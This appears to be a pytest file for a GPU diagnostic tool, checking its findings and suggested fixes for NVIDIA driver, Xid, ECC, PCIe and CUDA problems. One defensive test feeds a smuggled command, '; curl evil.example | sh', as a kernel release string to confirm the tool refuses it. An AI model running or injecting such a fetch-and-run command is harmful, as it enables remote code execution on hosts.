"""Findings for provision doctor: which ids, which severities, what evidence and fix, and the
Xid catalogue (compat/xid.yaml) they rest on."""

import json
import shutil
from pathlib import Path

import pytest
import yaml
from support import COMPAT

from provision.doctor import diagnose_files, diagnose_named_texts, diagnose_texts, split_bundle
from provision.doctor.model import Finding, Report
from provision.doctor.rules import gpu_rules, persistence_rule
from provision.doctor.state import GpuState
from provision.doctor.xid import load_xid_catalog
from provision.doctor.xid_refresh import RefreshError, parse_catalog, render
from provision.errors import CompatDataError, InputError

FIX = Path(__file__).resolve().parent.parent / "fixtures" / "doctor"
ERR = (
    "NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver. "
    "Make sure that the latest NVIDIA driver is installed and running.\n"
)


def text(name: str) -> str:
    return (FIX / name).read_text(encoding="utf-8")


def found(report: Report) -> set[tuple[str, str]]:
    return {(f.id, f.severity) for f in report.findings}


def only(report: Report, ident: str) -> Finding:
    hits = [f for f in report.findings if f.id == ident]
    assert len(hits) == 1, f"{ident}: {hits}"
    return hits[0]


# -- every committed fixture --------------------------------------------------------------------
EXPECTED = {
    "app__cuda-insufficient-driver.txt": {("cuda-driver-insufficient", "error")},
    "app__tf-oom.txt": {("out-of-memory", "error")},
    "app__torch-oom.txt": {("out-of-memory", "error")},
    "capture-bundle__h100-mig__mini.txt": set(),
    "dmesg-ctime__xid-119.log": {("xid-119", "error")},
    "dmesg-ctime__xid-13-109.log": {("xid-13", "warning"), ("xid-109", "error")},
    "dmesg-decode__xid-13-43.log": {("xid-13", "warning"), ("xid-43", "info")},
    # Xid 63's line says "reset gpu to activate": a warning, not the catalogue's IGNORE (see test_xid_63_...)
    "dmesg-iso__xid-48-63-94.log": {("xid-48", "error"), ("xid-63", "warning"), ("xid-94", "warning")},
    "dmesg-noprefix__xid-31.log": {("xid-31", "warning")},
    "dmesg__fallen-off-bus-multiline.log": {("gpu-fallen-off-bus", "error"), ("driver-probe-failed", "error")},
    "dmesg__rminitadapter-failed-2-gpus__gpu-operator-649.log": {("gpu-init-failed", "error")},
    "dmesg__unsupported-gpu__vgpu-p40-drv535.log": {
        ("gpu-unsupported-by-driver", "error"),
        ("driver-probe-failed", "error"),
    },
    "dmesg__xid-31-13-32__old-format.log": {("xid-31", "warning"), ("xid-13", "warning"), ("xid-32", "warning")},
    "error__couldnt-communicate.txt": {("driver-not-loaded", "error")},
    "error__no-devices.txt": {("no-devices", "error")},
    "error__nvml-mismatch-legacy.txt": {("driver-library-mismatch", "error")},
    "error__nvml-mismatch.txt": {("driver-library-mismatch", "error")},
    "error__nvml-not-found.txt": {("nvml-not-found", "error")},
    "fabricmanager__nvswitch-nonfatal.log": {("nvswitch-error", "warning")},
    "journal-k__healthy.log": set(),
    "journal-k__xid-79-fallen-off-bus.log": {("xid-79", "error"), ("pcie-aer-error", "error")},
    "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log": {
        ("gpu-unsupported-by-driver", "error"),
        ("driver-probe-failed", "error"),
    },
    "nvlink-s__2x-a100__healthy.txt": set(),
    "nvlink-s__8x-v100__inactive-links.txt": {("nvlink-inactive", "error")},
    "nvlink-s__h100__mig-unsupported.txt": set(),
    "q-d-memory-performance__prompt-line.txt": set(),
    "q-d-performance__old-throttle-wording.txt": set(),
    "q-x__2x-k80__ecc-aggregate-dbe.xml": {
        ("ecc-uncorrectable", "warning"),
        ("ecc-correctable", "info"),
        ("retired-pages", "info"),
        ("persistence-off", "warning"),
    },
    "q-x__2x-l4__v12.xml": {("persistence-off", "warning"), ("pcie-link-degraded", "warning")},
    "q-x__a100__mig-enabled.xml": {("persistence-off", "warning")},
    "q-x__a100__mig-pending-MODIFIED.xml": {("persistence-off", "warning"), ("mig-pending-reboot", "warning")},
    "q-x__gtx-1050__no-doctype.xml": {("pcie-link-degraded", "warning")},
    "q-x__rtx-2080__windows-wddm.xml": {("pcie-link-degraded", "warning")},
    "q-x__rtx-3090-v13__sw-power-cap-idle.xml": {("clocks-sw-power-cap", "info")},
    "q-x__v100-sxm3__dbe-retired-pages-pending.xml": {
        ("ecc-uncorrectable", "error"),
        ("ecc-correctable", "info"),
        ("retired-pages-pending", "error"),
    },
    "q__2x-h100__hw-slowdown-power-brake.txt": {("clocks-hw-slowdown", "warning"), ("clocks-power-brake", "error")},
    "q__2x-rtx-4090__sw-power-cap-load.txt": {("clocks-sw-power-cap", "info")},
    "q__2x-v100__old-ecc-layout.txt": {("persistence-off", "warning")},
    "q__a10__remapped-rows-pending.txt": {("remapped-rows-pending", "error")},
    "q__h100__mig-load-drv590.txt": set(),
    "q__h100__swpowercap-swthermal-powerbrake.txt": {
        ("clocks-power-brake", "error"),
        ("clocks-sw-power-cap", "info"),
        ("clocks-sw-thermal-slowdown", "warning"),
    },
    "query-gpu__p100.csv": set(),
    "table__8x-v100__inforom-corrupted.txt": {("inforom-corrupted", "warning"), ("persistence-off", "warning")},
    "table__h100__r550-healthy.txt": set(),
    "table__rtx-4090__fan-err.txt": {("fan-error", "error")},
    "journal-k__rminitadapter-failed__gpu-operator-1146.log": {("gpu-init-failed", "error")},
}
NOT_DIAGNOSABLE = {
    "help-query-gpu__excerpt.txt": "help text",
    "list__h200-mig.txt": "nvidia-smi -L",
    "mig-lgip__a100.txt": "MIG layout",
    "pmon__l4.txt": "pmon",
    "topo-m__2x-rtx-5090.txt": "topo",
    "query-gpu__noheader.txt": "without a header line",
}


def test_every_fixture_has_an_expectation():
    names = {p.name for p in FIX.iterdir() if p.is_file() and not p.name.endswith(".source.txt")}
    assert names, "no doctor fixtures"
    assert names == set(EXPECTED) | set(NOT_DIAGNOSABLE)


@pytest.mark.parametrize(("name", "expected"), sorted(EXPECTED.items()))
def test_fixture_findings(name, expected):
    report = diagnose_files([FIX / name])
    assert found(report) == expected
    assert report.exit_code == (1 if any(s == "error" for _, s in expected) else 0)
    for f in report.findings:
        assert f.title
        assert "\n" not in f.title
        assert f.evidence
        assert len(f.fix) > 20


@pytest.mark.parametrize(("name", "what"), sorted(NOT_DIAGNOSABLE.items()))
def test_not_diagnosable_files_are_rejected_by_name(name, what):
    with pytest.raises(InputError) as info:
        diagnose_files([FIX / name])
    assert name in info.value.message
    assert what in info.value.message
    assert info.value.exit_code == 2
    assert "doctor reads" in info.value.hint


def test_several_files_make_one_report():
    report = diagnose_files(
        [
            FIX / "q-x__v100-sxm3__dbe-retired-pages-pending.xml",
            FIX / "dmesg-iso__xid-48-63-94.log",
            FIX / "nvlink-s__2x-a100__healthy.txt",
        ]
    )
    assert {"ecc-uncorrectable", "retired-pages-pending", "xid-48", "xid-63", "xid-94"} <= report.ids()
    assert [r.kind for r in report.read] == ["nvidia-smi-q-x", "kernel-log", "nvlink-s"]


def test_report_json_and_order():
    report = diagnose_files([FIX / "q__h100__swpowercap-swthermal-powerbrake.txt"])
    doc = json.loads(json.dumps(report.to_dict()))
    assert [f["severity"] for f in doc["findings"]] == ["error", "warning", "info"]
    assert set(doc["findings"][0]) == {"id", "severity", "title", "evidence", "fix"}
    assert doc["counts"] == {"error": 1, "warning": 1, "info": 1}
    assert doc["exit_code"] == 1
    assert doc["read"][0]["kind"] == "nvidia-smi-q"


# -- the findings no capture produced before (issue 22's mutation run) ------------------------------
def by_id(report: Report, ident: str) -> list[Finding]:
    return [f for f in report.findings if f.id == ident]


def test_a_gpu_the_driver_branch_does_not_support_from_a_real_capture():
    """flatcar/Flatcar#1283: NVRM refuses a vGPU P40 profile on driver 535.104.05, a message of
    six lines (continuations joined)."""
    report = diagnose_files([FIX / "dmesg__unsupported-gpu__vgpu-p40-drv535.log"])
    (f,) = by_id(report, "gpu-unsupported-by-driver")
    assert f.title == "The installed driver (535.104.05) does not support GPU 0000:02:00.0"
    assert "not supported by the NVRM: NVIDIA 535.104.05 driver release" in f.evidence
    assert "vGPU guest driver" in f.fix
    assert "`provision plan --gpu <id>`" in f.fix


def test_a_gpu_the_open_kernel_modules_do_not_support_from_a_real_capture():
    """negativo17/nvidia-driver#158: the open modules (560's default) refuse a GPU without GSP,
    as they would a V100 or P100: the fix is the proprietary modules, not another branch."""
    report = diagnose_files([FIX / "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log"])
    (f,) = by_id(report, "gpu-unsupported-by-driver")
    assert f.title == "The open NVIDIA kernel modules do not support GPU 0000:09:00.0"
    assert "GPU System Processor" in f.fix
    assert "proprietary kernel modules" in f.fix


def test_rminitadapter_failed_from_real_captures_one_finding_per_gpu():
    """NVIDIA/gpu-operator#1146 (syslog, one GPU failing twelve times) and #649 (dmesg, two GPUs
    among unrelated lines)."""
    (one,) = by_id(diagnose_files([FIX / "journal-k__rminitadapter-failed__gpu-operator-1146.log"]), "gpu-init-failed")
    assert one.title == "The driver could not initialise GPU 0000:0a:00.0 (RmInitAdapter failed)"
    assert "RmInitAdapter failed! (0x24:0x72:1568)" in one.evidence
    assert one.evidence.endswith("; 12 lines in all")
    two = by_id(diagnose_files([FIX / "dmesg__rminitadapter-failed-2-gpus__gpu-operator-649.log"]), "gpu-init-failed")
    assert [f.title.split()[6] for f in two] == ["0000:04:01.0", "0000:04:02.0"]


@pytest.mark.parametrize(
    ("name", "ident", "breaks"),
    [
        ("dmesg__unsupported-gpu__vgpu-p40-drv535.log", "gpu-unsupported-by-driver", "is not supported by the"),
        (
            "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log",
            "gpu-unsupported-by-driver",
            "supported by open",
        ),
        ("journal-k__rminitadapter-failed__gpu-operator-1146.log", "gpu-init-failed", "failed"),
    ],
)
def test_the_capture_needs_the_pattern(name, ident, breaks):
    """The mutant the mutation run left alive: with the message's key words changed, the finding is gone."""
    text = (
        (FIX / name).read_text().replace(breaks, breaks.replace("supported", "supp0rted").replace("failed", "fai1ed"))
    )
    assert ident not in diagnose_named_texts([(name, text)]).ids()


# -- evidence and fixes -------------------------------------------------------------------------
def test_xid_findings_are_grouped_per_code_and_gpu():
    report = diagnose_files([FIX / "dmesg-decode__xid-13-43.log"])
    xid13 = only(report, "xid-13")
    assert ", 12 times" in xid13.title
    assert "GPU 0000:38:00" in xid13.title
    assert xid13.evidence.startswith("12 event(s) on GPU 0000:38:00")
    assert "; last: " in xid13.evidence
    assert "compute-sanitizer" in xid13.fix
    assert "RESTART_APP" in xid13.fix


def test_xid_fix_names_the_gpu_and_uuid():
    f = only(diagnose_files([FIX / "dmesg-ctime__xid-119.log"]), "xid-119")
    assert "GPU-509665ad-b600-ac93-3616-d754b23d636d" in f.title
    assert "nvidia-smi -r -i 0000:9b:00.0" in f.fix


def test_xid_with_gpu_state_gets_the_gpu_name():
    xml = text("q-x__v100-sxm3__dbe-retired-pages-pending.xml")
    log = "[ 10.0] NVRM: Xid (PCI:0000:34:00): 48, pid=1, name=x, An uncorrectable double bit error\n"
    f = only(diagnose_texts({"nvidia-smi-q-x": xml, "kernel-log": log}), "xid-48")
    assert "Tesla V100-SXM3-32GB" in f.title


def test_xid_63_asks_for_the_reset_its_line_names():
    """Issue 23: Xid 63 was "no action" (NVIDIA's catalogue bucket IGNORE) while its own line says
    "reset gpu to activate": the row remap is pending until a GPU reset, so the fix is that reset."""
    line = (
        "2024-11-15T12:02:03,498753+00:00 NVRM: Xid (PCI:0000:19:00): 63, pid='<unknown>', name=<unknown>, "
        "Row Remapper: New row (0x00000012bac1c3e0) marked for remapping, reset gpu to activate.\n"
    )
    (f,) = by_id(diagnose_named_texts([("dmesg.log", line)]), "xid-63")
    assert f.severity == "warning"
    assert f.title.endswith(": a row remap waits for a GPU reset")
    assert "`sudo nvidia-smi -r -i 0000:19:00.0`" in f.fix
    assert "IGNORE" in f.fix
    assert "No action needed" not in f.fix
    assert "https://docs.nvidia.com/deploy/a100-gpu-mem-error-mgmt/error-recovery-and-response-flags.html" in f.fix
    plain = line.replace(", reset gpu to activate", "")  # the catalogue alone: no reset asked for
    (g,) = by_id(diagnose_named_texts([("dmesg.log", plain)]), "xid-63")
    assert g.severity == "info"
    assert "No action needed" in g.fix


def test_unknown_xid_code_is_a_warning():
    f = only(diagnose_texts({"kernel-log": "NVRM: Xid (PCI:0000:01:00): 999, something new\n"}), "xid-999")
    assert f.severity == "warning"
    assert "not in NVIDIA's Xid catalogue" in f.title


def test_clock_findings_carry_the_state():
    f = next(
        f
        for f in diagnose_files([FIX / "q__2x-h100__hw-slowdown-power-brake.txt"]).findings
        if f.id == "clocks-power-brake"
    )
    assert "GPU 0000:19:00.0 (NVIDIA H100 80GB HBM3)" in f.evidence
    assert "HW Power Brake Slowdown: Active (P0, GPU util 0 %, 67.74 W of 700 W limit, 29 C)" in f.evidence
    assert "ipmitool" in f.fix


def test_same_gpu_from_two_captures_is_reported_once():
    q = text("q__a10__remapped-rows-pending.txt")
    report = diagnose_named_texts([("a.txt", q), ("b.txt", q)])
    assert [f.id for f in report.findings] == ["remapped-rows-pending"]


# -- GPU state rules (synthetic states) ---------------------------------------------------------
def run(**fields) -> set[tuple[str, str]]:
    out: list[Finding] = []
    base = {"source": "t", "fmt": "-q", "bus_id": "0000:01:00.0", "name": "NVIDIA H100 80GB HBM3", "brand": "NVIDIA"}
    g = GpuState(**{**base, **fields})
    gpu_rules(g, lambda f, _key: out.append(f))
    persistence_rule([g], lambda f, _key: out.append(f))
    return {(f.id, f.severity) for f in out}


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"temp": 85, "temp_slowdown": 89, "temp_shutdown": 92}, {("temperature-near-slowdown", "warning")}),
        ({"temp": 88, "temp_slowdown": 87, "temp_shutdown": 92}, {("temperature-near-shutdown", "error")}),
        ({"temp": 60, "temp_slowdown": 89, "temp_shutdown": 92}, set()),
        (
            {"temp": 70, "tlimit": 2, "tlimit_slowdown": -2, "tlimit_shutdown": -8},
            {("temperature-near-slowdown", "warning")},
        ),
        ({"temp": 70, "tlimit": 26, "tlimit_slowdown": -2}, set()),
        ({"temp": 0, "temp_slowdown": 3}, set()),  # vGPU guests report 0 C
    ],
)
def test_temperature(fields, expected):
    assert run(**fields) == expected


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        # idle GPUs downshift the link generation on purpose: not reported
        ({"pcie_gen": 1, "pcie_gen_max": 4, "pstate": "P8", "util_gpu": 0, "clocks": {"gpu_idle": True}}, set()),
        ({"pcie_gen": 1, "pcie_gen_max": 4, "pstate": "P0", "util_gpu": 0, "clocks": {"gpu_idle": True}}, set()),
        ({"pcie_gen": 3, "pcie_gen_max": 5, "pstate": "P0", "util_gpu": 97}, {("pcie-link-degraded", "warning")}),
        (
            {"pcie_gen": 3, "pcie_gen_max": 5, "pstate": "P0", "util_gpu": 5, "clocks": {"gpu_idle": False}},
            {("pcie-link-degraded", "warning")},
        ),
        ({"pcie_width": 8, "pcie_width_max": 16, "pstate": "P8"}, {("pcie-link-degraded", "warning")}),
        ({"pcie_gen": 5, "pcie_gen_max": 5, "pcie_width": 16, "pcie_width_max": 16, "util_gpu": 100}, set()),
    ],
)
def test_pcie(fields, expected):
    assert run(persistence=True, **fields) == expected


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        (
            {"clocks": {"sw_power_cap": True}, "util_gpu": 0, "power_limit": 700, "power_default_limit": 700},
            {("clocks-sw-power-cap", "info")},
        ),
        (
            {"clocks": {"sw_power_cap": True}, "util_gpu": 99, "power_limit": 700, "power_default_limit": 700},
            {("clocks-sw-power-cap", "info")},
        ),
        (
            {"clocks": {"sw_power_cap": True}, "util_gpu": 99, "power_limit": 400, "power_default_limit": 700},
            {("clocks-sw-power-cap", "warning")},
        ),
        (
            {"clocks": {"sw_power_cap": True}, "util_gpu": 0, "power_limit": 400, "power_default_limit": 700},
            {("clocks-sw-power-cap", "info")},
        ),
        (
            {"clocks": {"hw_slowdown": True, "hw_thermal_slowdown": True}},
            {("clocks-hw-slowdown", "warning"), ("clocks-hw-thermal-slowdown", "error")},
        ),
        ({"clocks": {"sw_thermal_slowdown": True, "gpu_idle": False}}, {("clocks-sw-thermal-slowdown", "warning")}),
        ({"clocks": {"hw_slowdown": False, "applications_clocks_setting": True}}, set()),
    ],
)
def test_clock_reasons(fields, expected):
    assert run(persistence=True, **fields) == expected


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"persistence": False}, {("persistence-off", "warning")}),
        ({"persistence": False, "driver_model": "WDDM"}, set()),
        ({"persistence": False, "name": "NVIDIA GeForce RTX 4090", "brand": "GeForce"}, set()),
        ({"persistence": False, "name": "NVIDIA RTX A5000", "brand": "NVIDIA RTX"}, set()),
        ({"persistence": None}, set()),
    ],
)
def test_persistence_only_on_linux_datacenter_gpus(fields, expected):
    assert run(**fields) == expected


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"mig_current": "Enabled", "mig_pending": "Disabled"}, {("mig-pending-reboot", "warning")}),
        ({"mig_current": "Enabled", "mig_pending": "Enabled"}, set()),
        ({"remap_failure": True}, {("remapped-rows-failed", "error")}),
        ({"fabric_state": "In Progress", "fabric_status": None}, {("fabric-not-ready", "error")}),
        ({"fabric_state": "Completed", "fabric_status": "Success"}, set()),
        ({"recovery_action": "Node Reboot"}, {("gpu-reset-required", "error")}),
        ({"recovery_action": "None", "reset_required": False}, set()),
        ({"fan": "Unknown Error"}, {("fan-error", "error")}),
        ({"ecc_volatile_unc": 0, "ecc_aggregate_unc": 0, "ecc_aggregate_corr": 0}, set()),
    ],
)
def test_other_state_rules(fields, expected):
    assert run(persistence=True, **fields) == expected


# -- driver on the host -------------------------------------------------------------------------
LSMOD_PLAIN = "Module                  Size  Used by\nxt_conntrack           16384  1\n"


@pytest.mark.parametrize(
    ("extra", "cause", "in_fix"),
    [
        ({"modules": "nouveau 2355200 2 - Live 0x0000000000000000\n"}, "nouveau", "blacklist-nouveau.conf"),
        ({"kernel-log": "[ 5.1] nouveau 0000:01:00.0: DRM: VRAM: 8192 MiB\n"}, "nouveau", "update-initramfs"),
        ({"secure-boot": "SecureBoot enabled\n", "modules": LSMOD_PLAIN}, "Secure Boot", "mokutil --import"),
        (
            {
                "kernel-log": "[ 5.2] Lockdown: modprobe: unsigned module loading is restricted; see man kernel_lockdown.7\n"
            },
            "Secure Boot",
            "mokutil",
        ),
        (
            {"modules": LSMOD_PLAIN, "uname-r": "6.8.0-45-generic\n"},
            "running kernel 6.8.0-45-generic",
            "dkms autoinstall",
        ),
        (
            {"kernel-log": "modprobe: FATAL: Module nvidia not found in directory /lib/modules/6.8.0-45-generic\n"},
            "running kernel 6.8.0-45-generic",
            "dkms status",
        ),
        (
            {"modules": "nvidia 56389632 2 - Live 0x0\n"},
            "module is loaded but the GPU does not answer",
            "fallen off the bus",
        ),
        ({}, "cause unknown", "mokutil --sb-state"),
    ],
)
def test_driver_not_loaded_names_the_cause(extra, cause, in_fix):
    report = diagnose_texts({"nvidia-smi-stderr": ERR, "nvidia-smi-rc": "9", **extra})
    f = only(report, "driver-not-loaded")
    assert f.severity == "error"
    assert cause in f.title
    assert in_fix in f.fix
    assert "nvidia-smi exit code 9" in f.evidence


def test_secure_boot_rejection_in_the_kernel_log_is_enough():
    log = "[ 5.2] modprobe: ERROR: could not insert 'nvidia': Key was rejected by service\n"
    f = only(diagnose_texts({"kernel-log": log}), "driver-not-loaded")
    assert "Secure Boot" in f.title


def test_pcie_aer_and_host_oom_kills_in_the_kernel_log():
    log = (
        "Mar 04 02:13:55 n kernel: pcieport 0000:3a:00.0: AER: Uncorrected (Fatal) error received: 0000:3b:00.0\n"
        "Mar 04 02:13:55 n kernel: nvidia 0000:3b:00.0: PCIe Bus Error: severity=Uncorrected (Fatal), type=X\n"
        "Mar 04 02:14:55 n kernel: pcieport 0000:00:01.0: AER: Corrected error received: 0000:01:00.0\n"
        "Mar 04 02:15:00 n kernel: Out of memory: Killed process 4242 (python3) total-vm:100kB, anon-rss:10kB\n"
    )
    report = diagnose_texts({"kernel-log": log})
    assert found(report) == {("pcie-aer-error", "error"), ("pcie-aer-error", "info"), ("host-out-of-memory", "warning")}
    fatal = next(f for f in report.findings if f.id == "pcie-aer-error" and f.severity == "error")
    assert fatal.title.startswith("2 PCIe AER uncorrected (fatal)")


def test_unsigned_module_taint_alone_is_not_a_finding():
    log = "[ 5.2] nvidia: module verification failed: signature and/or required key missing - tainting kernel\n"
    assert diagnose_texts({"kernel-log": log, "secure-boot": "SecureBoot disabled\n"}).findings == ()


def test_driver_library_mismatch_with_versions():
    f = only(
        diagnose_texts(
            {
                "nvidia-smi-stderr": text("error__nvml-mismatch.txt"),
                "proc-driver-version": "NVRM version: NVIDIA UNIX x86_64 Kernel Module  550.127.05  Tue Oct  8 2024\n",
            }
        ),
        "driver-library-mismatch",
    )
    assert "user-space 550.144, kernel module 550.127.05" in f.title
    assert "NVML library version: 550.144" in f.evidence
    assert "sudo rmmod nvidia_uvm nvidia_drm nvidia_modeset nvidia && sudo modprobe nvidia" in f.fix


def test_driver_library_mismatch_from_versions_alone():
    q = text("q__a10__remapped-rows-pending.txt")
    proc = "NVRM version: NVIDIA UNIX x86_64 Kernel Module  535.104.05  Sat Aug 19 01:15:15 UTC 2023\n"
    f = only(diagnose_texts({"nvidia-smi-q": q, "proc-driver-version": proc}), "driver-library-mismatch")
    assert "535.129.03" in f.evidence
    assert "535.104.05" in f.evidence


def test_kernel_api_mismatch():
    log = (
        "[ 9.1] NVRM: API mismatch: the client has the version 535.104.05, but\n"
        "[ 9.1] NVRM: this kernel module has the version 535.86.10.  Please\n"
    )
    f = only(diagnose_texts({"kernel-log": log}), "driver-library-mismatch")
    assert "user-space 535.104.05" in f.title


@pytest.mark.parametrize(
    ("rc", "ident"),
    [
        (12, "nvml-not-found"),
        (14, "inforom-corrupted"),
        (15, "gpu-lost"),
        (8, "gpu-power-cables"),
        (255, "nvidia-smi-failed"),
    ],
)
def test_nvidia_smi_exit_codes(rc, ident):
    assert ident in diagnose_texts({"nvidia-smi-rc": f"{rc}\n"}).ids()


def test_exit_code_zero_and_stderr_noise_are_quiet():
    assert diagnose_texts({"nvidia-smi-rc": "0", "nvidia-smi-stderr": "\n"}).findings == ()


# -- applications -------------------------------------------------------------------------------
def test_out_of_memory_mentions_mig_when_the_host_runs_it():
    sections = {"nvidia-smi-q": text("q__h100__mig-load-drv590.txt"), "app-log": text("app__torch-oom.txt")}
    report = diagnose_texts(sections)
    f = only(report, "out-of-memory")
    assert "Tried to allocate 2.00 GiB" in f.title
    assert "gradient checkpointing" in f.fix
    assert "This host runs MIG" in f.fix


def test_cuda_insufficient_with_the_catalogue(fixture_matrix):
    """The advice quotes the catalogue (the fixture one: its rows, not today's data)."""
    table = text("table__h100__r550-healthy.txt").replace("550.90.07", "470.82.01")
    table = table.replace("CUDA Version: 12.4", "CUDA Version: 11.4")
    app = "torch 2.4.0+cu124\nRuntimeError: The NVIDIA driver on your system is too old (found version 11040).\n"
    sections = {"nvidia-smi": table, "app-log": app}
    f = only(diagnose_texts(sections, matrix=fixture_matrix), "cuda-driver-insufficient")
    first_124 = min((c for c in fixture_matrix.cuda if c.version.release[:2] == (12, 4)), key=lambda c: c.version)
    assert f"CUDA 12.4 needs driver >= {first_124.min_driver}" in f.fix
    floor = next(mc for mc in fixture_matrix.minor_compat if mc.cuda_major == 12)
    assert str(floor.min_driver) in f.fix
    assert "--cuda 12.4" in f.fix
    assert "host driver 470.82.01, whose native CUDA is 11.4 (nvidia-smi's CUDA Version)" in f.evidence
    plain = only(diagnose_texts(sections), "cuda-driver-insufficient")  # no matrix: generic advice
    assert "Table 3" in plain.fix


def test_cuda_insufficient_from_the_container_toolkit(fixture_matrix):
    app = "nvidia-container-cli: requirement error: unsatisfied condition: cuda>=12.6, please update your driver\n"
    proc = "NVRM version: NVIDIA UNIX x86_64 Kernel Module  535.183.01  Sun May 12 19:39:15 UTC 2024\n"
    first_126 = min((c for c in fixture_matrix.cuda if c.version.release[:2] == (12, 6)), key=lambda c: c.version)
    floor = next(mc for mc in fixture_matrix.minor_compat if mc.cuda_major == 12)
    assert floor.min_driver <= type(floor.min_driver)("535.183.01") < first_126.min_driver, "the case the rule explains"
    report = diagnose_texts({"app-log": app, "proc-driver-version": proc}, matrix=fixture_matrix)
    f = only(report, "cuda-driver-insufficient")
    assert "(CUDA 12.6, driver 535.183.01)" in f.title
    assert "minor-version compatibility" in f.fix


def test_cuda_insufficient_on_r535_names_the_major_not_an_upgrade_to_12(real_matrix):
    """Issue 23: with driver 535.183.01, "CUDA driver version is insufficient" read "supports up
    to CUDA 12.2.2 ... upgrade the driver", though R535 runs every CUDA 12.x application through
    minor-version compatibility: the likely cause is a CUDA 13 build. The figures come from the
    catalogue's rows (Table 3, the minor-version floors)."""
    from provision.versions import parse_version

    app = "cudaGetDeviceCount returned 35\n-> CUDA driver version is insufficient for CUDA runtime version\n"
    proc = "NVRM version: NVIDIA UNIX x86_64 Kernel Module  535.183.01  Sun May 12 19:39:15 UTC 2024\n"
    driver = parse_version("535.183.01")
    native = next(c for c in real_matrix.cuda if c.min_driver <= driver)
    floor = real_matrix.minor_compat_floor(native.version.release[0])
    assert floor is not None
    assert floor.min_driver <= driver, "the case the rule explains"
    nxt = [c for c in real_matrix.cuda if c.version.release[0] == native.version.release[0] + 1][-1]
    f = only(
        diagnose_texts({"app-log": app, "proc-driver-version": proc}, matrix=real_matrix), "cuda-driver-insufficient"
    )
    assert f"runs CUDA up to {native.version} natively" in f.fix
    assert f"every CUDA {native.version.release[0]}.x application through minor-version compatibility" in f.fix
    assert f"needs driver >= {floor.min_driver}" in f.fix
    assert f"most likely built for CUDA {nxt.version.release[0]} (driver >= {nxt.min_driver})" in f.fix
    assert "supports up to" not in f.fix + f.evidence


@pytest.mark.parametrize(
    ("cuda", "driver", "mode"),
    [("12.2", "535.183.01", "native"), ("12.6", "535.183.01", "minor-version"), ("13.0", "535.183.01", "no")],
)
def test_cuda_mode_is_the_one_decision(real_matrix, cuda, driver, mode):
    from provision.doctor.rules_host import cuda_mode
    from provision.versions import parse_version

    assert cuda_mode(real_matrix, parse_version(driver), cuda) == mode


# -- a machine with no NVIDIA GPU (issue 23) -----------------------------------------------------------
NO_NVIDIA = "devices scanned: 6\n"
NOT_FOUND = "nvidia-smi: command not found\n"


def test_no_nvidia_gpu_on_the_bus_is_said_instead_of_install_nvidia_utils():
    report = diagnose_texts({"nvidia-smi-stderr": NOT_FOUND, "nvidia-smi-rc": "127", "pci-nvidia": NO_NVIDIA})
    assert report.ids() == {"no-nvidia-gpu"}
    (f,) = report.findings
    assert "none with NVIDIA's vendor id 0x10de" in f.evidence
    assert "nvidia-utils" not in f.fix
    assert "no NVIDIA GPU" in f.title


@pytest.mark.parametrize(
    ("pci", "smi", "expected"),
    [
        # a GPU on the bus: nvidia-smi's own advice stands
        ("0000:17:00.0 0x2330 0x030200\ndevices scanned: 40\n", {"nvidia-smi-rc": "127"}, {"nvml-not-found"}),
        # only an NVSwitch: no GPU either
        ("0000:05:00.0 0x22a3 0x068000\ndevices scanned: 40\n", {"nvidia-smi-rc": "127"}, {"no-nvidia-gpu"}),
        # sysfs not read: no conclusion
        ("", {"nvidia-smi-rc": "127"}, {"nvml-not-found"}),
        # a driver/library mismatch means a GPU is there, whatever sysfs shows (a container)
        (NO_NVIDIA, {"nvidia-smi-rc": "18"}, {"driver-library-mismatch"}),
    ],
)
def test_no_nvidia_gpu_only_when_the_bus_says_so(pci, smi, expected):
    sections = {**smi, **({"pci-nvidia": pci} if pci else {})}
    assert diagnose_texts(sections).ids() == expected


def test_nvidia_smi_reporting_gpus_wins_over_sysfs():
    sections = {"nvidia-smi": text("table__h100__r550-healthy.txt"), "pci-nvidia": NO_NVIDIA}
    assert "no-nvidia-gpu" not in diagnose_texts(sections).ids()


# -- what doctor does not read whole -------------------------------------------------------------------
def test_a_section_over_the_cap_is_cut_and_said():
    from provision.doctor.bounds import SECTION_CHARS

    log = "[ 1.0] NVRM: Xid (PCI:0000:17:00): 79, pid=0, GPU has fallen off the bus.\n"
    filler = "[ 0.5] audit: noise\n" * (SECTION_CHARS // 20 + 10)
    report = diagnose_texts({"kernel-log": filler + log, "nvidia-smi-stderr": "x" * (SECTION_CHARS + 5)})
    cuts = {f.title.split()[1]: f for f in report.findings if f.id == "output-cut"}
    assert set(cuts) == {"kernel-log", "nvidia-smi-stderr"}
    assert all(f.severity == "warning" for f in cuts.values())
    assert "the last 4 MiB were analysed" in cuts["kernel-log"].title
    assert "the first 4 MiB were analysed" in cuts["nvidia-smi-stderr"].title
    assert "xid-79" in report.ids(), "a log keeps its newest part"


def test_a_uname_that_is_not_a_kernel_release_goes_into_no_command():
    """uname -r is printed into the fix's commands (dkms -k RELEASE): a host's odd answer is refused."""
    report = diagnose_texts({"uname-r": "6.8.0; curl evil.example | sh\n", "nvidia-smi-rc": "9", "modules": ""})
    assert "curl" not in " ".join(f.fix for f in report.findings)
    assert "section-unreadable" in report.ids()


# -- collector bundles and sections ---------------------------------------------------------------
def test_collector_bundle_file(tmp_path):
    bundle = "".join(
        f"===== provision-doctor: {k} =====\n{v}"
        for k, v in {
            "nvidia-smi-q-x": text("q-x__a100__mig-pending-MODIFIED.xml"),
            "nvlink-s": text("nvlink-s__8x-v100__inactive-links.txt"),
            "kernel-log": text("journal-k__xid-79-fallen-off-bus.log"),
            "fabricmanager-log": text("fabricmanager__nvswitch-nonfatal.log"),
            "uname-r": "6.8.0-45-generic\n",
            "future-key": "whatever\n",
        }.items()
    )
    path = tmp_path / "host1.doctor.txt"
    path.write_text(bundle)
    report = diagnose_files([path])
    assert {"mig-pending-reboot", "nvlink-inactive", "xid-79", "nvswitch-error", "persistence-off"} <= report.ids()
    same = diagnose_texts(split_bundle(bundle))
    assert [f[:3] for f in same.findings] == [f[:3] for f in report.findings]  # id, severity, title
